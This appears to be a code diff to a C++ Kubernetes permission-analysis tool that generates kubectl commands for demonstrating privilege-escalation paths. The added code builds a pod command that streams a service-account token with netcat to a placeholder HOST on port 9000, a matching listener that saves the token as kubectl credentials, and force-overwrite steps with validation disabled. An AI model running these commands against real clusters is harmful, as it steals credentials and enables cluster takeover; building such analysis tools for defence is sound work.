@@ -12,6 +12,8 @@ namespace nsposture::escalation {
 
 namespace {
 
+constexpr std::string_view kFreshName = "take-over";
+
 bool is_plain(char c) {
   return std::isalnum(static_cast<unsigned char>(c)) != 0 ||
          std::string_view("-_./:@=,+%").find(c) != std::string_view::npos;
@@ -55,10 +57,44 @@ std::string json_text(std::string_view text) {
 }
 
 std::string send_object(const StepView& view, Right create, const std::string& json) {
-  const bool by_apply = !name_used(view.edge, create).empty();
-  return fmt::format("{} {} -f - <<< {}", view.kubectl,
-                     by_apply ? "apply --server-side --validate=false" : "create",
+  // A POST names nothing; by a rule that is limited to names the other ways are left.
+  if (name_used(view.edge, create).empty()) {
+    return fmt::format("{} create --validate=false -f - <<< {}", view.kubectl, shell_word(json));
+  }
+  return overwrite_object(view, static_cast<Right>(create + 2), json);
+}
+
+std::string overwrite_object(const StepView& view, Right patch, const std::string& json,
+                             std::string_view options) {
+  const auto* way = uses(view.edge, patch) ? "apply --server-side --force-conflicts" : "replace";
+  return fmt::format("{} {} {}--validate=false -f - <<< {}", view.kubectl, way, options,
                      shell_word(json));
+}
+
+std::string keep_token(const StepView& view, const std::string& command) {
+  return fmt::format("kubectl config set-credentials {} --token=\"$({})\"",
+                     shell_word(credential_name(view.becomes)), command);
+}
+
+std::string send_token_command(std::string_view root) {
+  return fmt::format(
+      R"(["sh","-c","until nc HOST 9000 < {}/var/run/secrets/kubernetes.io/serviceaccount/token; do sleep 1; done"])",
+      root);
+}
+
+std::string receive_token(const StepView& view) {
+  return keep_token(view, "nc -l -p 9000");
+}
+
+std::string credential_name(const Person& person) {
+  const auto subject = subject_from_username(person.username);
+  if (subject.kind == SubjectKind::ServiceAccount) return subject.name + '.' + subject.namespace_;
+  return person.username;
+}
+
+std::string fresh_name(const StepView& view, std::string_view given) {
+  if (!given.empty() && given != kFreshName) return std::string(given);
+  return std::string(kFreshName) + view.suffix;
 }
 
 std::string in_namespace(std::string_view ns) {
@@ -84,6 +120,16 @@ std::string object_json(std::string_view version, std::string_view kind, std::st
                      json_text(version), json_text(kind), json_text(name), in, rest);
 }
 
+std::string subject_json(const Subject& subject, const std::string& ns) {
+  if (subject.kind == SubjectKind::ServiceAccount) {
+    return fmt::format(R"({{"kind":"ServiceAccount","namespace":{},"name":{}}})",
+                       json_text(subject.namespace_.empty() ? ns : subject.namespace_),
+                       json_text(subject.name));
+  }
+  return fmt::format(R"({{"kind":"{}","apiGroup":"rbac.authorization.k8s.io","name":{}}})",
+                     to_string(subject.kind), json_text(subject.name));
+}
+
 std::string describe_person(const Person& person) {
   if (!person.username.empty()) return describe(subject_from_username(person.username));
   if (person.groups.empty()) return "somebody";
@@ -102,7 +148,10 @@ std::string impersonation_flags(const Person& person) {
   auto implicit = implicit_groups(subject_from_username(person.username));
   std::sort(implicit.begin(), implicit.end());
   if (person.groups == implicit) return flags;
-  for (const auto& group : person.groups) flags += " --as-group=" + shell_word(group);
+  // The API server adds this one itself, and asks for the right to each that is sent.
+  for (const auto& group : person.groups) {
+    if (group != kGroupAuthenticated) flags += " --as-group=" + shell_word(group);
+  }
   return flags;
 }
 
